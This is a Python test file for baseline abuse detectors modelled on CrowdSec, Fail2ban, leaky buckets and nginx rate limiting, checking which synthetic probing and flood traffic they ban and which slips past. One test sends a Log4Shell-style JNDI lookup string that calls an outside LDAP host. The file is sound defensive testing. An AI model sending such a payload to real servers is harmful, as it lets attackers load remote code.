from agent.contract.address import address_text
from models.evaluation.baselines.crowdsec import CrowdSec
from models.evaluation.baselines.fail2ban import Fail2ban
from models.evaluation.baselines.leaky_bucket import LeakyBucket, Window
from models.evaluation.baselines.limit_req import LimitReq
from models.evaluation.request import Request
from models.evaluation.tests.traffic import ask


def banned(defender, requests: list[Request]) -> set[str]:
    verdicts = [v for r in requests for v in defender.feed(int(r.at), [r], [""])]
    return {address_text(verdict.source) for verdict in verdicts}


def probes(status: int = 404, pause: float = 1.0, count: int = 30) -> list[Request]:
    return [ask(n * pause, url=f"/probe-{n}", status=status) for n in range(count)]


def test_a_bucket_overflows_with_one_more_than_it_holds_unless_it_leaks_in_time():
    bucket = LeakyBucket(3, 10)
    assert [bucket.pour(at) for at in (0, 1, 2, 3)] == [False, False, False, True]
    slow = LeakyBucket(3, 10)
    assert not any(slow.pour(at) for at in range(0, 1000, 11))


def test_a_distinct_bucket_counts_a_value_once():
    bucket = LeakyBucket(2, 1000)
    assert [bucket.pour(at, "same") for at in range(9)] == [False] * 9
    assert [bucket.pour(9, name) for name in "ab"] == [False, True]


def test_a_window_forgets():
    window = Window(3, 10)
    assert [window.count(at) for at in (0, 5, 11, 12)] == [False, False, False, True]


def test_crowdsec_bans_probing_that_is_answered_404():
    assert banned(CrowdSec(frozenset()), probes()) == {"192.0.2.1"}


def test_crowdsec_misses_what_its_status_gate_leaves_out():
    for status in (301, 502, 200):
        assert not banned(CrowdSec(frozenset()), probes(status))


def test_crowdsec_misses_what_is_slower_than_its_leak():
    assert not banned(CrowdSec(frozenset()), probes(pause=12.0))


def test_crowdsec_misses_one_path_repeated():
    assert not banned(CrowdSec(frozenset()), [ask(n, url="/same", status=404) for n in range(60)])


def test_crowdsec_bans_a_known_hole_at_its_first_request():
    assert banned(CrowdSec(frozenset()), [ask(0, url="/?x=${jndi:ldap://198.51.100.7/a}")])


def test_crowdsec_lets_a_verified_search_bot_be():
    assert not banned(CrowdSec(frozenset({"192.0.2.1"})), probes())


def test_fail2ban_bans_at_the_fifth_offence_of_ten_minutes():
    denied = [ask(100 * n, status=401) for n in range(5)]
    assert not banned(Fail2ban(), denied[:4])
    assert banned(Fail2ban(), denied)
    assert not banned(Fail2ban(), [ask(300 * n, status=401) for n in range(9)])


def test_limit_req_finds_a_flood_and_no_browser():
    flood = LimitReq()
    assert flood.feed(0, [ask(n / 100) for n in range(100)], [""] * 100)
    calm = LimitReq()
    assert not calm.feed(0, [ask(n / 100) for n in range(20)], [""] * 20)


def test_what_was_refused_is_not_seen():
    defender = CrowdSec(frozenset())
    assert not [v for r in probes() for v in defender.feed(int(r.at), [r], ["ban"])]
